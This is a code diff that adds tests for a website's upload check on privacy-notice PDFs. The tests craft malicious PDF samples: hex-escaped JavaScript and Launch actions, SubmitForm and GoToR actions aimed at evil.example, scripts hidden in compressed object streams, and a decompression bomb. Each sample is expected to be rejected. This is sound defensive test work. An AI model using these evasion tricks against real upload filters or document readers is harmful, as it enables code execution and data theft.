@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import { newSite } from '../testing/sampleSite';
 import { readySite, saveTemplate, withText } from '../testing/bannerEditing';
 import { startWebsites, type Websites } from '../testing/startWebsites';
@@ -108,4 +109,41 @@ describe('F-05: an uploaded privacy notice', () => {
       expect({ status, code: body.errors[0].code }).toEqual({ status: 422, code: 'file_type_pdf' });
     },
   );
+
+  const packed = (objects: string, dictionary = '/Type /ObjStm /Filter /FlateDecode'): Buffer =>
+    Buffer.concat([
+      Buffer.from(`%PDF-1.7\n1 0 obj\n<<${dictionary}>>\nstream\n`),
+      deflateSync(objects),
+      Buffer.from('\nendstream\nendobj\n%%EOF'),
+    ]);
+
+  it.each([
+    ['a name in codes', pdf('<</S /J#61vaScript /J#53 (app.alert(1))>>')],
+    ['a launch in codes', pdf('<</S /Lau#6Ech>>')],
+    ['a form that sends', pdf('<</S /SubmitForm /F (https://evil.example)>>')],
+    ['another file that is opened', pdf('<</S /GoToR /F (//evil.example/x)>>')],
+    ['actions of a page', pdf('<</AA <</O 3 0 R>>>>')],
+    ['a form of another kind', pdf('<</XFA 3 0 R>>')],
+    ['a packed script', packed('1 0 <</S /JavaScript /JS (app.alert(1))>>')],
+    ['a packed script in codes', packed('1 0 <</S /Jav#61Script>>')],
+    [
+      'a packed script under a name in codes',
+      packed('<</S /Launch>>', '/Type /Obj#53tm /Filter /FlateDecode'),
+    ],
+    ['objects packed twice', packed('x', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]')],
+    [
+      'packed objects that cannot be unpacked',
+      pdf('<</Type /ObjStm /Filter /FlateDecode>>\nstream\nsecret\nendstream'),
+    ],
+    ['a bomb', packed(' '.repeat(20 << 20))],
+  ])('V-31, IJ-07: %s is refused', async (_what, bytes) => {
+    const { status, body } = await put(bytes);
+    expect([status, body.errors?.[0]?.code]).toEqual([422, 'file_active_content']);
+  });
+
+  it('V-31: a notice with links, an opening view and packed objects is taken', async () => {
+    const harmless = '1 0 <</S /URI /URI (https://site.ac.th/)>> 2 0 <</OpenAction [3 0 R /Fit]>>';
+    expect((await put(packed(harmless))).status).toBe(200);
+    expect((await put(pdf(harmless))).status).toBe(200);
+  });
 });
